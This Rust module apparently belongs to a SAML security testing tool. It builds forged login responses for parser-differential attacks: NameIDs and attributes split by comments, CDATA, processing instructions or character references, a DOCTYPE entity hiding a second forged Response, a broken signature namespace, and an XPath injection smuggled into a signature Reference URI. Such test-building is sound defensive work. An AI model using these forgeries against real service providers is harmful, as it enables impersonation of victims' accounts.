//! D. Parser differentials: messages that two XML readers (the signature checker's and the SP's)
//! read differently, such as a NameID split by a comment or a DOCTYPE hiding a second Response.

use crate::saml::canonical::escape_text;
use crate::saml::error::Result;
use crate::saml::response::{assertion_xml, response_xml};
use crate::saml::sign::{insert_signature, signature_element};
use crate::saml::splice;

use super::build::{
    both_signed, both_signed_from, edited_signed_assertion, idp_opts, post, post_doc, with_prolog,
};
use super::{Builder, BuiltCase, CaseContext};

/// This group's builders by case id, in table order.
pub(super) const BUILDERS: &[(&str, Builder)] = &[
    ("saml.comment-in-nameid", comment_in_nameid),
    ("saml.pi-in-nameid", pi_in_nameid),
    ("saml.cdata-in-nameid", cdata_in_nameid),
    ("saml.charref-in-nameid", charref_in_nameid),
    ("saml.comment-in-attribute", comment_in_attribute),
    ("saml.cdata-in-attribute", cdata_in_attribute),
    ("saml.doctype", doctype),
    ("saml.doctype-differential", doctype_differential),
    ("saml.signature-wrong-namespace", signature_wrong_namespace),
    ("saml.reference-xpath-injection", reference_xpath_injection),
];

/// The IdP vouches for `<victim>.evil.test` (an account the attacker registered); `inner` is
/// how the NameID text is written, splitting it after the victim's address.
fn split_nameid(ctx: &CaseContext<'_>, inner: &str, before_signing: bool) -> Result<BuiltCase> {
    let whole = format!("{}.evil.test", ctx.forged_name_id);
    let spec = ctx.spec.for_subject(&whole);
    let opts = idp_opts(ctx);
    let xml = if before_signing {
        let a = splice::set_inner(&assertion_xml(&spec), "saml:NameID", inner)?;
        both_signed_from(&spec, &a, &opts)?
    } else {
        splice::set_inner(&both_signed(&spec, &opts)?, "saml:NameID", inner)?
    };
    Ok(BuiltCase {
        original_user: whole,
        signed_attributes: super::signed_attributes(&spec),
        ..post(ctx, &xml, true)
    })
}

/// The IdP vouches for `<victim>.evil.test` and signs it as the e-mail attribute too; after
/// signing, the first `AttributeValue` holding it is written as `inner`, splitting it after the
/// victim's address. An SP that reads only the first text node of the attribute gets the
/// victim's address, which the session's attributes then show.
fn split_attribute(ctx: &CaseContext<'_>, inner: &str) -> Result<BuiltCase> {
    let whole = format!("{}.evil.test", ctx.forged_name_id);
    let spec = ctx.spec.for_subject(&whole);
    let signed = both_signed(&spec, &idp_opts(ctx))?;
    let value = format!(">{}<", escape_text(&whole));
    let at = signed
        .find(&format!("<saml:AttributeValue{value}"))
        .map(|i| i + "<saml:AttributeValue".len())
        .ok_or_else(|| {
            crate::saml::error::SamlError::Splice("no AttributeValue with the address".into())
        })?;
    let xml = splice::replace(&signed, at, at + value.len(), &format!(">{inner}<"));
    Ok(BuiltCase {
        original_user: whole,
        signed_attributes: super::signed_attributes(&spec),
        ..post(ctx, &xml, true)
    })
}

fn comment_in_attribute(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let victim = escape_text(&ctx.forged_name_id);
    split_attribute(ctx, &format!("{victim}<!---->.evil.test"))
}

fn cdata_in_attribute(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let victim = escape_text(&ctx.forged_name_id);
    split_attribute(ctx, &format!("{victim}<![CDATA[.evil.test]]>"))
}

fn comment_in_nameid(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let victim = escape_text(&ctx.forged_name_id);
    // Canonical form drops comments, so the signatures still cover the whole address.
    split_nameid(ctx, &format!("{victim}<!---->.evil.test"), false)
}

fn pi_in_nameid(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let victim = escape_text(&ctx.forged_name_id);
    // Canonical form keeps processing instructions, so this one is in the signed bytes.
    split_nameid(ctx, &format!("{victim}<?idgate?>.evil.test"), true)
}

fn cdata_in_nameid(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let victim = escape_text(&ctx.forged_name_id);
    split_nameid(ctx, &format!("{victim}<![CDATA[.evil.test]]>"), false)
}

fn charref_in_nameid(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let victim = escape_text(&ctx.forged_name_id);
    split_nameid(ctx, &format!("{victim}&#46;evil.test"), false)
}

fn doctype(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let xml = both_signed(&ctx.spec, &idp_opts(ctx))?;
    Ok(post_doc(
        ctx,
        with_prolog("<!DOCTYPE samlp:Response>", &xml),
        false,
    ))
}

fn doctype_differential(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let forged = ctx.forged();
    let fake = response_xml(&forged, &assertion_xml(&forged))
        .replace('%', "&#37;")
        .replace('\'', "&#39;");
    // An entity value holding `]>` and a whole forged Response: a parser that ends the DOCTYPE
    // at the first `]>` reads the forged Response as the document.
    let prolog = format!("<!DOCTYPE samlp:Response [<!ENTITY idgate ']>{fake}'>]>");
    let xml = both_signed(&ctx.spec, &idp_opts(ctx))?;
    Ok(post_doc(ctx, with_prolog(&prolog, &xml), true))
}

fn signature_wrong_namespace(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let evil = edited_signed_assertion(ctx, false)?;
    let evil = splice::replace_first(
        &evil,
        "xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"",
        "xmlns:ds=\"http://www.w3.org/2000/09/xmldsig\"",
    )?;
    Ok(post(ctx, &response_xml(&ctx.spec, &evil), true))
}

fn reference_xpath_injection(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let id = &ctx.spec.assertion_id;
    let original = assertion_xml(&ctx.spec);
    // Pasted into `//*[@ID='...']` this still selects the assertion; as an ID it names nothing.
    let uri = format!("#{id}' or @ID='{id}");
    let sig = signature_element(&original, &uri, &idp_opts(ctx))?;
    let signed = insert_signature(&original, &splice::root(&original)?, &sig)?;
    Ok(post(ctx, &response_xml(&ctx.spec, &signed), false))
}
